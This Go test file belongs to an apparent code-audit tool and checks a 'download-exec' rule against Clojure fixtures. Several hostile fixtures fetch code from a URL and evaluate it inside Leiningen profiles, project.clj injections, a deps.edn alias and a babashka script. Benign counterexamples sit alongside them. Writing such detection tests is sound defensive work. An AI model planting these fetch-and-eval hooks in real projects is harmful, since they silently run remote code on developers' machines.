package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestCljFetchEval: Clojure that fetches text from a URL and evaluates
// it (a Leiningen profile's :injections or :init, project.clj, a deps.edn
// alias's -e one-liner, a babashka script) is download-exec, critical,
// followed through let bindings, an HTTP client's :body and a file it
// is spat to; medium when a digest is named. A profile requiring a
// namespace of the project, EDN data read from a URL, and a local file
// loaded are not findings.
func TestCljFetchEval(t *testing.T) {
	crit, med, none := audit.Critical, audit.Medium, audit.SeverityNone
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/lein-init-load-string": {map[string]string{"assets/profiles.clj": `{:dev
 {:dependencies [[nrepl "1.1.0"]]
  :repl-options
  {:init (let [u (java.net.URL. "https://snippets.example.net/repl/init.clj")
               src (slurp u)]
           (load-string src))}}}
`}, crit},
		"hostile/project-injection-http-client": {map[string]string{"project.clj": `(defproject acme/svc "0.3.0"
  :dependencies [[org.clojure/clojure "1.11.1"]
                 [clj-http "3.12.3"]]
  :injections [(require '[clj-http.client :as client])
               (let [resp (client/get "http://10.9.8.7/extra.clj")]
                 (eval (read-string (:body resp))))])
`}, crit},
		"hostile/threaded-body": {map[string]string{"dev/user.clj": `(ns user (:require [clj-http.client :as client]))

(-> (client/get (str "http://" (System/getenv "TOOLS_HOST") "/boot.clj"))
    :body
    load-string)
`}, crit},
		"benign/threaded-data": {map[string]string{"dev/user.clj": `(ns user (:require [clj-http.client :as client] [clojure.edn :as edn]))

(def settings (-> (client/get "https://config.example.com/app.edn") :body edn/read-string))
(-> "dev/seed.clj" load-file)
`}, none},
		"hostile/deps-alias-one-liner": {map[string]string{"deps.edn": `{:paths ["src"]
 :aliases
 {:bootstrap {:main-opts ["-e" "(load-string (slurp \"http://bootstrap.example.org/setup.clj\"))"]}}}
`}, crit},
		"hostile/bb-spit-then-load-file": {map[string]string{"scripts/warm.bb": `#!/usr/bin/env bb
(require '[babashka.http-client :as http]
         '[clojure.java.io :as io])

(def target (io/file (System/getProperty "java.io.tmpdir") "warm.clj"))

(with-open [in (io/input-stream (io/as-url "https://cdn.example.com/warm.clj"))]
  (io/copy in target))

(load-file (str target))
`}, crit},
		"hostile/digest-named": {map[string]string{"src/boot.clj": `(ns boot (:import [java.security MessageDigest]))
(def pinned "3b1f...")
(defn sha256 [s] (.digest (MessageDigest/getInstance "SHA-256") (.getBytes s)))
(let [code (slurp "https://releases.example.com/boot.clj")]
  (when (= pinned (hex (sha256 code)))
    (load-string code)))
`}, med},
		"benign/injections-require-local": {map[string]string{"profiles.clj": `{:user
 {:plugins [[lein-ancient "1.0.0-RC3"]]
  :injections [(require 'acme.dev.user)
               (load-file "dev/user_helpers.clj")
               (set! *warn-on-reflection* true)]}}
`}, none},
		"benign/edn-config-from-url": {map[string]string{"src/config.clj": `(ns app.config
  (:require [clojure.edn :as edn]
            [clojure.java.io :as io]))

(defn remote-config [url]
  (edn/read-string (slurp url)))

(defn eval-local [f]
  ;; (load-string (slurp "http://old.example.com/x.clj")) was removed
  (load-file (.getPath (io/file "resources" f))))
`}, none},
		"benign/string-mentions-url-no-eval": {map[string]string{"deps.edn": `{:aliases {:docs {:main-opts ["-m" "docs.main" "--base" "https://docs.example.com/"]}
           :check {:main-opts ["-e" "(println (slurp \"https://status.example.com/ok\"))"]}}}
`}, none},
	})
}
